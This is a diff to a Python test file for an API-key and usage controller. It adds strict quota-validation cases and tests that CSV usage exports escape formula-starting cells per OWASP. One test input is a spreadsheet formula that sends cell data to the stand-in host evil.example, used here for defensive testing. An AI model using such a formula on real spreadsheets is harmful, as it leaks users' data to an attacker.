@@ -3,6 +3,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import sqlite3
@@ -17,6 +19,7 @@ from typer.testing import CliRunner
 from controller.api.keys import keys_router
 from controller.api.usage import usage_router
 from controller.cli.main import _register, app
+from controller.cli.usage_cmd import csv_cell
 from controller.gateway.keystore import KeyStore
 from controller.gateway.usage_report import RangeError, parse_range
 from controller.gateway.usage_store import HourUsage, UsageStore, hour_of
@@ -39,7 +42,10 @@ def client(store: KeyStore) -> TestClient:
 
 @pytest.mark.parametrize(
     ("field", "value"),
-    [("tpm_limit", 0), ("tpm_limit", -5), ("tpd_limit", 10**11), ("tpd_limit", 1e23), ("tpm_limit", "lots")],
+    [("tpm_limit", 0), ("tpm_limit", -5), ("tpd_limit", 10**11), ("tpd_limit", 1e23), ("tpm_limit", "lots"),
+     # strict: never coerced (a `true` was once stored as a limit of 1, "5" as 5, 5.0 as 5)
+     ("tpm_limit", True), ("tpd_limit", False), ("rpm_limit", True), ("max_concurrent", True),
+     ("tpm_limit", "5"), ("rpm_limit", 5.0)],
 )
 def test_bad_quota_is_a_422_naming_the_field(tmp_path: Path, field: str, value: object) -> None:
     c = client(KeyStore(tmp_path / "k.db"))
@@ -151,6 +157,31 @@ def test_cli_usage_and_keys_update(tmp_path: Path, monkeypatch: pytest.MonkeyPat
     assert "TOK/MIN" in r.stdout and re.search(r"alice .* 500 ", r.stdout)
     r = run(app, ["keys", "create", "--name", "q", "--tpd", "0", "--keys", str(store.path)])
     assert r.exit_code == 2 and "--tpd" in r.output
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)"])
+def test_cli_usage_csv_neutralises_formula_key_names(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                      name: str) -> None:
+    # OWASP CSV injection: a cell starting with = + - @ TAB CR gets a leading ' (read as text).
+    monkeypatch.setattr("controller.gateway.usage_report.time.time", lambda: NOW)
+    _register()
+    store = KeyStore(tmp_path / "keys.sqlite3")
+    k, _ = store.create(name)
+    usage = UsageStore(store.path.with_name("usage.sqlite3"))
+    usage.write({(k.id, hour_of(NOW)): HourUsage(1, 0, 1, 2, 0.5)})
+    r = CliRunner().invoke(app, ["usage", "--keys", str(store.path), "--csv"])
+    assert r.exit_code == 0, r.output
+    [row] = list(csv.DictReader(io.StringIO(r.stdout)))
+    assert row["key_name"] == "'" + name and row["key_id"] == k.id and row["total_tokens"] == "3"
+
+
+def test_csv_cell_follows_owasp() -> None:
+    # TAB and CR cannot start a key name (the key store refuses control characters), but the rule
+    # is OWASP's whole list, for whatever text a row may carry.
+    assert [csv_cell(v) for v in ("\tx", "\rx", "=1", "+1", "-1", "@1")] == [
+        "'\tx", "'\rx", "'=1", "'+1", "'-1", "'@1"]
+    plain = ("alice", "a=b", "", 0, -5, 1.5, None)
+    assert [csv_cell(v) for v in plain] == list(plain)
 
 
 async def test_console_keys_page_shows_usage_chart_and_quotas(tmp_path: Path,
